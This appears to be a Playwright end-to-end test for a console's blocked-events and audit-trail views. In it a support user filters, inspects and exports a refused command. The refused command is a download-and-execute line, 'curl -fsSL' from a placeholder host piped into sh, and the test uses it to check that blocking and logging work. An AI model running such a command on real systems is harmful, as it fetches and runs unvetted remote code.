/**
 * Journey 4 — support: filters blocked events by reason code, opens one, sees the highlighted
 * command and the reasons, exports CSV, and the downloaded file contains the event. Then finds
 * the same refusal in the audit trail and exports that as JSONL.
 */
import { readFileSync } from 'node:fs';
import { expect, test } from '../support/fixtures';
import { DOWNLOAD_AND_EXECUTE, scriptLogs } from '../support/lines';
import { tourScreenshot } from '../support/system';
import { TerminalTab } from '../support/terminal';
import type { JourneyFixtures, SystemFixtures } from '../support/fixtures';

/** Run on its own, a test here first needs a refusal to review: the technician makes one. */
async function ensureRefusalToReview({ openConsole, system }: Pick<JourneyFixtures, 'openConsole'> & SystemFixtures) {
  if ((await scriptLogs(system, { reasonCode: 'download_execute' })).length > 0) return;
  const technician = await openConsole('technician');
  await technician.ensureSignedIn('technician');
  const terminal = new TerminalTab(technician);
  await terminal.openEndpoint(system.endpoint.hostname);
  await terminal.open('technician');
  await terminal.type(DOWNLOAD_AND_EXECUTE);
  await terminal.refusalOf(DOWNLOAD_AND_EXECUTE);
}

test('support: filters blocked events by reason code, opens one, exports CSV containing it', async ({ openConsole, system }, testInfo) => {
  await ensureRefusalToReview({ openConsole, system });

  const support = await openConsole('support');
  await support.signIn('support');
  await support.goTo('Blocked events');
  const page = support.page;

  const filters = page.getByRole('search', { name: 'Filter blocked events' });
  await filters.getByLabel('Reason code').selectOption('download_execute');
  await filters.getByRole('button', { name: 'Apply filters' }).click();
  const row = page.getByRole('row').filter({ hasText: 'updates.example.invalid/setup.sh' }).first();
  await support.see(row, 'a blocked download-and-execute event in the filtered table');
  await expect(row).toContainText('download_execute');
  await expect(row).toContainText(system.accounts.technician.email);
  // Only the chosen reason code is listed.
  for (const codes of await page.getByRole('row').locator('td:nth-child(4)').allInnerTexts()) expect(codes).toContain('download_execute');
  await support.see(
    page.getByRole('img', { name: /^Blocked events over time by reason code: \d+ events$/ }),
    'the chart of blocked events',
  );
  await support.keepScreenshot(testInfo, 'blocked-events', tourScreenshot('05-blocked-events'));

  await row.getByRole('button', { name: /^Details/ }).click();
  const detail = await support.see(page.getByRole('region', { name: 'Blocked event' }), 'the event details');
  const panel = detail.getByRole('region', { name: /Refused by the server|Blocked by the security policy/ });
  await expect(panel.getByLabel('Reason code download_execute')).toBeVisible();
  await expect(panel.getByLabel('Matched part of the command for download_execute').locator('mark').first()).toHaveText(
    'curl -fsSL https://updates.example.invalid/setup.sh',
  );
  await expect(panel.getByText(/piped into `sh`, which runs it as code/)).toBeVisible();
  await support.keepScreenshot(testInfo, 'blocked-event-detail', tourScreenshot('06-blocked-event-detail'));

  const download = page.waitForEvent('download');
  await filters.getByRole('button', { name: 'Export CSV' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^script-logs-.*\.csv$/);
  const csv = readFileSync(await file.path(), 'utf8');
  await testInfo.attach('blocked-events.csv', { body: csv, contentType: 'text/csv' });
  const [header, ...lines] = csv.trim().split(/\r?\n/);
  expect(header).toContain('"reason_codes"');
  const exported = lines.find((line) => line.includes('updates.example.invalid/setup.sh'));
  expect(exported, 'the exported CSV holds the event').toBeDefined();
  expect(exported).toContain('download_execute');
  expect(exported).toContain(system.accounts.technician.email);
});

test('support: finds the refusal in the audit trail by source and action family, and exports it as JSONL', async ({
  openConsole,
  system,
}, testInfo) => {
  await ensureRefusalToReview({ openConsole, system });

  const support = await openConsole('support');
  await support.ensureSignedIn('support');
  await support.goTo('Audit trail');
  const page = support.page;
  const filters = page.getByRole('search', { name: 'Filter the audit trail' });
  await filters.getByLabel('Source').selectOption('script');
  await filters.getByLabel('Action').fill('script.');
  await filters.getByRole('button', { name: 'Apply' }).click();
  const row = page.getByRole('row').filter({ hasText: 'script.block' }).filter({ hasText: 'download_execute' }).first();
  await support.see(row, 'the refusal as a script.block entry of the audit trail');
  await expect(row).toContainText(system.accounts.technician.email);
  // Only script logs are listed.
  for (const source of await page.getByRole('row').locator('td:nth-child(2)').allInnerTexts()) expect(source).toBe('script');

  const download = page.waitForEvent('download');
  await filters.getByRole('button', { name: 'Export JSONL' }).click();
  const file = await download;
  const lines = readFileSync(await file.path(), 'utf8')
    .trim()
    .split('\n');
  await testInfo.attach('audit-trail.jsonl', { body: lines.join('\n'), contentType: 'application/x-ndjson' });
  const events = lines.map((line) => JSON.parse(line) as { source: string; action: string; reasonCode: string | null });
  expect(events.length).toBeGreaterThan(0);
  expect(events.every((e) => e.source === 'script' && e.action.startsWith('script.'))).toBe(true);
  expect(events.some((e) => e.action === 'script.block' && e.reasonCode === 'download_execute')).toBe(true);
});
